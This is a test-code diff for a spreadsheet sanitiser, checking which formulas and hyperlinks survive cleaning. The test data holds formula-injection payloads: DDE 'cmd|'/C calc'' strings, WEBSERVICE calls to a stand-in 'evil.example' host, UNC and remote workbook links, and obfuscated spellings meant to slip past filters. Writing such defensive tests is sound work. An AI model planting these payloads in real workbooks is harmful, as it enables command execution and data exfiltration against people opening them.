@@ -110,6 +110,26 @@ FORMULAS = {
     "INDIRECT(\"[a.xlsx]S!A1\")": False,
     "RTD(\"x\",,\"y\")": False,
     "IMAGE(A1)": False,
+    "'a\"b'!A1&'c\"d'!A1": True,
+    "'it''s'!A1&\"it's \"\"x\"\"\"": True,
+    "SUM('1月:3月'!B2)+{1,2;3,4}*50%-A1:INDEX(A:A,3)": True,
+    "'a\"b'!A1&_xlfn.WEBSERVICE('c\"d'!A1)": False,
+    "IF(1,\"a\"&'it''s \"x'!A1,WEBSERVICE(\"http://evil.example\"))": False,
+    "'a\"b'!A1+cmd|'/C calc'!A0+'c\"d'!A1": False,
+    "\"'\"&WEBSERVICE(A1)&\"'!\"": False,
+    "'a\"b'!A1&'[x.xls]S'!A1&'c\"d'!A1": False,
+    "\\\\10.0.0.5\\share\\[x.xls]S": False,
+    "'http://evil.example/x.xlsx'!名称": False,
+    "'file:///C:/x'#$S.A1": False,
+    "WEBSERVICE\u3000(A1)": False,
+    "WEB\u200bSERVICE(A1)": False,
+    "ＷＥＢＳＥＲＶＩＣＥ(A1)": False,
+    "S!WEBSERVICE(A1)": False,
+    "LET(w,WEBSERVICE,w(A1))": False,
+    "IF(1,_xleta.WEBSERVICE)(A1)": False,
+    "CHOOSE(1,A1)(\"http://evil.example\")": False,
+    "\"unfinished": False,
+    "'unfinished!A1": False,
 }  # fmt: skip
 
 
@@ -121,6 +141,92 @@ async def test_a_formula_stays_that_computes_from_its_own_workbook(formula: str,
     shown = openpyxl.load_workbook(io.BytesIO(copy), data_only=True)["考勤"]["B4"].value
     assert shown == 42.5, "the last value stays either way"
     assert (f"<f>{escaped}</f>" in body(copy, SHEET)) == stays
+
+
+PLACES = {
+    "a name": (
+        "xl/workbook.xml",
+        '<definedNames><definedName name="a">{}</definedName></definedNames><calcPr',
+        "<calcPr",
+    ),
+    "a list to choose from": (
+        SHEET,
+        '<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>{}</formula1></dataValidation>'
+        "</dataValidations><mergeCells",
+        "<mergeCells",
+    ),
+    "a condition": (
+        SHEET,
+        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula></cfRule>'
+        "</conditionalFormatting><mergeCells",
+        "<mergeCells",
+    ),
+    "a limit of colours": (
+        SHEET,
+        '<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" '
+        'val="{}"/><cfvo type="max"/><color rgb="FF0000"/><color rgb="FF00FF"/></colorScale></cfRule>'
+        "</conditionalFormatting><mergeCells",
+        "<mergeCells",
+    ),
+    "a limit of icons": (
+        SHEET,
+        '<conditionalFormatting sqref="A1"><cfRule type="iconSet" priority="1"><iconSet><cfvo type="num" val="0"/>'
+        '<cfvo type="num" val="{}"/><cfvo type="num" val="9"/></iconSet></cfRule></conditionalFormatting><mergeCells',
+        "<mergeCells",
+    ),
+}
+
+
+@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES.keys())
+@pytest.mark.parametrize(
+    ("formula", "stays"),
+    [
+        ("考勤!$B$2*2", True),
+        ("SUM('a&quot;b'!B2,3)", True),
+        ("WEBSERVICE(A1)", False),
+        ("'a&quot;b'!A1&amp;WEBSERVICE('c&quot;d'!A1)", False),
+        ("cmd|'/C calc'!A0", False),
+    ],
+)
+async def test_a_formula_is_judged_wherever_it_stands(place: tuple[str, str, str], formula: str, stays: bool) -> None:
+    part, with_formula, before = place
+    made = changed(excel(), {part: (before, with_formula.format(formula))})
+    copy = body((await clean(made)).data, part)
+    for what in ("definedName", "dataValidation", "conditionalFormatting", "cfvo"):
+        assert (f"<{what}" in copy) == (stays and f"<{what}" in with_formula), what
+
+
+@pytest.mark.parametrize(
+    ("location", "stays"),
+    [
+        ("考勤!A1", True),
+        ("'考勤'!$A$1:$B$9", True),
+        ("#说明!C:C", True),
+        ("说明", True),
+        ("B2", True),
+        ("区域", True),
+        ("file:///C:/x", False),
+        ("'[\\\\evil.example\\x.xlsx]S'!A1", False),
+        ("[x.xlsx]考勤!A1", False),
+        ("\\\\evil.example\\share!A1", False),
+        ("http://evil.example/#考勤!A1", False),
+        ("别的!A1", False),
+        ("考勤!WEBSERVICE(A1)", False),
+        ("无此名称", False),
+    ],
+)
+async def test_a_link_leads_to_a_place_of_its_own_workbook(location: str, stays: bool) -> None:
+    path = f"D:\\{SECRET}"
+    link = f'<hyperlinks><hyperlink ref="B2" location="{location}" tooltip="{path}" display="{path}"/>'
+    names = '<definedNames><definedName name="区域">考勤!A1:B2</definedName></definedNames><calcPr'
+    made = excel()
+    assert b"<hyperlinks>" in parts(made)[SHEET]
+    made = changed(made, {SHEET: ("<hyperlinks>", link), "xl/workbook.xml": ("<calcPr", names)})
+    copy = (await clean(made)).data
+    assert (f'location="{location}"' in body(copy, SHEET)) == stays
+    assert ('ref="B2"' in body(copy, SHEET)) == stays
+    assert 'ref="A2"' in body(copy, SHEET), "the link to a page stays"
+    assert not says(copy, SECRET, "evil.example")
 
 
 async def test_a_picture_in_a_cell_of_wps_stays() -> None:
